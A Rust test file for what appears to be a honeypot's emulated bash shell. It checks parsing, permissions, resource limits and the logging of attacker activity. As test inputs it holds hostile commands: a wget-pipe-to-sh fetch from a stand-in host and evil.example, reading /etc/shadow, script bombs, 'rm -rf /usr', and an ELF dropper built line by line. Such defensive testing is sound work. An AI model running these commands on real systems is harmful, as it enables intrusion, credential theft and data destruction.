use std::sync::OnceLock;

use expect_test::{Expect, expect};
use proptest::prelude::*;

use super::*;
use crate::persona::testing::persona;

fn shell_of(user: &str, has_terminal: bool) -> Shell {
    static MADE: OnceLock<(Persona, Arc<Tree>)> = OnceLock::new();
    let (persona, tree) = MADE.get_or_init(|| {
        let persona = persona(1);
        let tree = Arc::new(grow(&persona));
        (persona, tree)
    });
    Shell::new(Place {
        tree: Arc::clone(tree),
        persona,
        user,
        flavour: Flavour::Bash,
        local: IpAddr::from([10, 1, 2, 3]),
        peer: IpAddr::from([203, 0, 113, 9]),
        has_terminal,
        now: Timestamp::parse("2026-11-21T10:00:00Z").unwrap(),
    })
}

fn run(shell: &mut Shell, line: &str) -> String {
    let now = shell.now;
    String::from_utf8_lossy(&shell.line(line, now).bytes).into_owned()
}

#[track_caller]
fn check(lines: &[&str], expect: Expect) {
    let mut shell = shell_of("root", false);
    let shown: String = lines.iter().map(|line| run(&mut shell, line)).collect();
    expect.assert_eq(&shown);
}

#[test]
fn lists_pipes_quotes_and_variables() {
    check(
        &[
            "echo one; echo two && false || echo three",
            "X=5; echo \"$X and ${X}\" '$X' $((X * 2 + 1))",
            "echo a b c | tr a-c A-C | wc -w",
            "echo $(echo inner; echo `echo deep`)",
            "for i in 1 2 3; do echo -n $i; done; echo",
            "if [ -d /etc ]; then echo yes; else echo no; fi",
            "(cd /tmp && pwd); ! true || echo not",
            "echo \"a;b|c\" ; echo a\\ b",
            "nothing_here; echo $?",
        ],
        expect![[r"
            one
            two
            three
            5 and 5 $X 11
            3
            inner deep
            123
            yes
            /tmp
            not
            a;b|c
            a b
            -bash: nothing_here: command not found
            127
        "]],
    );
}

#[test]
fn files_change_within_the_session_alone() {
    check(
        &[
            "cd /tmp; echo hello > a; cat a; echo more >> a; wc -l a; ls",
            "mkdir -p x/y; touch x/y/z; find x; rm -rf x a; ls",
            "cat /etc/nothing 2>/dev/null; cat /etc/nothing",
            "cat /etc/hostname > /dev/null; cp /bin/ls ./l; chmod 700 l; stat l | grep -c 0700",
        ],
        expect![[r"
            hello
            2 a
            a
            x
            x/y
            x/y/z
            cat: /etc/nothing: No such file or directory
            1
        "]],
    );
}

#[test]
fn what_is_to_be_fetched_is_told_and_not_fetched() {
    let mut shell = shell_of("root", false);
    let now = shell.now;
    let answer = shell.line(
        "cd /tmp; wget http://203.0.113.7/x.sh -O- | sh; curl -s -o y https://evil.example/y",
        now,
    );
    let wanted: Vec<_> = answer.happenings;
    assert_eq!(
        wanted,
        [
            Happening::Download("http://203.0.113.7/x.sh".to_owned()),
            Happening::Download("https://evil.example/y".to_owned()),
        ]
    );
    assert!(String::from_utf8_lossy(&answer.bytes).contains("Connection timed out"));
}

#[test]
fn a_user_may_not_what_root_may() {
    let mut shell = shell_of("nobody-knows", false);
    let shown = run(&mut shell, "cat /etc/shadow; ls /root; echo x > /etc/y; id -u; sudo id");
    expect![[r"
        cat: /etc/shadow: Permission denied
        ls: cannot open directory '/root': Permission denied
        -bash: /etc/y: Permission denied
        1100
        nobody-knows is not in the sudoers file.  This incident will be reported.
    "]]
    .assert_eq(&shown);
}

#[test]
fn the_machine_agrees_with_itself() {
    let mut shell = shell_of("root", false);
    let cores: usize = run(&mut shell, "nproc").trim().parse().unwrap();
    assert_eq!(run(&mut shell, "grep -c ^processor /proc/cpuinfo").trim(), cores.to_string());
    assert_eq!(run(&mut shell, "hostname"), run(&mut shell, "cat /etc/hostname"));
    assert!(run(&mut shell, "cat /etc/os-release").contains(shell.machine.os.pretty));
    assert!(run(&mut shell, "uname -a").contains(shell.machine.os.kernel));
    assert!(run(&mut shell, "cat /proc/version").contains(shell.machine.os.kernel));
    for user in persona(1).users() {
        assert!(run(&mut shell, "cat /etc/passwd").contains(&user.name));
    }
    assert!(shell.line("head -c 4 /bin/echo", shell.now).bytes == b"\x7fELF");
    assert_eq!(run(&mut shell, "/bin/busybox XYZZY"), "XYZZY: applet not found\n");
}

#[test]
fn bombs_end() {
    let mut shell = shell_of("root", false);
    run(&mut shell, "echo 'sh /tmp/a; sh /tmp/a' > /tmp/a");
    for bomb in [
        "sh /tmp/a",
        "while true; do yes; done",
        "for i in $(seq 9999); do for j in $(seq 9999); do yes; done; done",
        "X=aaaaaaaaaaaaaaaa; for i in $(seq 64); do X=$X$X; done; echo $X",
        "cat /bin/bash /bin/bash /bin/bash /bin/bash | cat - - - -",
        "echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo $(echo deep))))))))",
        "for i in $(seq 64); do dd if=/bin/bash of=/tmp/f$i; done",
    ] {
        let answer = shell.line(bomb, shell.now);
        assert!(answer.bytes.len() <= OUTPUT_BYTES_MAX, "{bomb}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]
    #[test]
    fn no_line_brings_it_down(line in "[a-z$(){}`'\"|&;<> \\n\\\\/*!#-]{0,60}|\\PC{0,40}") {
        let mut shell = shell_of("root", true);
        let answer = shell.line(&line, shell.now);
        prop_assert!(answer.bytes.len() <= OUTPUT_BYTES_MAX);
    }
}

/// Each of these once took seconds to hours, or gigabytes.
#[test]
fn lines_that_are_meant_to_cost_much_end_soon() {
    let many = |word: &str, count: usize| word.repeat(count);
    let lines = [
        // 256 KB of text in which every letter becomes many.
        format!("head -c 200000 /bin/bash > /tmp/b; base64 /tmp/b | tr -d '\\n' > /tmp/t; sed s/A/{}/g /tmp/t", many("x", 9000)),
        // A set of letters as long as the line, looked through for each letter.
        format!("tr '{}' x < /tmp/t", many("b-z", 5000)),
        // Stars against a long line; many ways for each of many lines.
        format!("grep '{}b$' /tmp/t", many("a*", 4000)),
        format!("yes '' > /tmp/n; cat /tmp/n /tmp/n /tmp/n | grep '{}x'", many("y|", 7000)),
        // Folders of the path times names.
        format!("PATH={}; which {}", many(":/x", 5000), many("nothing ", 1900)),
        // The whole tree, again and again.
        format!("find {}", many("/ ", 2000)),
        format!("ls -l {}", many("/usr/bin ", 1800)),
        format!("rm -rf {}", many("/usr ", 1900)),
        // Sums that never end, scripts that call themselves, files that feed themselves.
        many("$((1) )", 9000),
        "echo 'sh /tmp/s; sh /tmp/s' > /tmp/s; sh /tmp/s".to_owned(),
        "A=xxxxxxxxxxxxxxxx; for i in 1 2 3 4 5 6 7 8 9 10 11 12 13; do A=$A$A; done; for i in 1 2 3; do echo $A$A$A$A$A$A > /tmp/v$i; done".to_owned(),
        "while true; do cat /tmp/t /tmp/t >> /tmp/u; cat /tmp/u | sort | uniq | sort > /dev/null; done".to_owned(),
        format!("ls {}", many("/usr/bin/*a*e*i*o* ", 800)),
    ];
    let mut shell = shell_of("root", true);
    for line in &lines {
        let now = shell.now;
        let answer = shell.line(line, now);
        assert!(answer.bytes.len() <= OUTPUT_BYTES_MAX);
        let held = |own: &Happening| match own {
            Happening::Written { bytes, .. } => bytes.len(),
            Happening::Download(url) => url.len(),
        };
        assert!(answer.happenings.iter().map(held).sum::<usize>() <= HAPPENINGS_BYTES_MAX);
    }
    let held: usize = shell.variables.iter().map(|(name, value)| name.len() + value.len()).sum();
    assert!(held <= VARIABLES_BYTES_MAX, "{held}");
    assert!(shell.history.iter().map(String::len).sum::<usize>() <= HISTORY_BYTES_MAX);
}

/// Droppers write a file line by line; all of it is told when it is run, not after each line.
#[test]
fn a_file_that_is_put_together_piece_by_piece_is_told_whole() {
    let mut shell = shell_of("root", true);
    let (mut told, mut last) = (0, 0);
    let mut line = |text: &str| {
        let now = shell.now;
        for happening in shell.line(text, now).happenings {
            let Happening::Written { bytes, .. } = happening else { continue };
            told += 1;
            last = bytes.len();
        }
    };
    for _ in 0..200 {
        line("echo -ne '\\x7f\\x45\\x4c\\x46' >> /tmp/.x");
    }
    line("chmod 777 /tmp/.x");
    line("/tmp/.x");
    assert_eq!(last, 800);
    assert!(told < 12, "{told}");
}

/// What is run is told, even where it is written over within the same line.
#[test]
fn a_file_that_is_written_over_was_there() {
    let mut shell = shell_of("root", true);
    let now = shell.now;
    let answer = shell.line("printf '\\x7fELFabc' > /tmp/x; /tmp/x; echo > /tmp/x", now);
    let told = |answer: &Answer, sign: &[u8]| {
        answer
            .happenings
            .iter()
            .any(|own| matches!(own, Happening::Written { bytes, .. } if bytes.ends_with(sign)))
    };
    assert!(told(&answer, b"ELFabc"), "{:?}", answer.happenings);
    assert!(told(&answer, b"\n"), "{:?}", answer.happenings);
}

#[test]
fn a_script_put_together_is_told_whole_when_it_is_run() {
    for run in ["sh /tmp/x", "bash /tmp/x", ". /tmp/x", "source /tmp/x", "echo > /tmp/x"] {
        let mut shell = shell_of("root", true);
        let now = shell.now;
        for part in 0..7 {
            shell.line(&format!("echo 'true {part}' >> /tmp/x"), now);
        }
        let answer = shell.line(run, now);
        let whole = answer.happenings.iter().any(
            |own| matches!(own, Happening::Written { bytes, .. } if bytes.ends_with(b"true 6\n")),
        );
        assert!(whole, "{run}: {:?}", answer.happenings);
    }
}
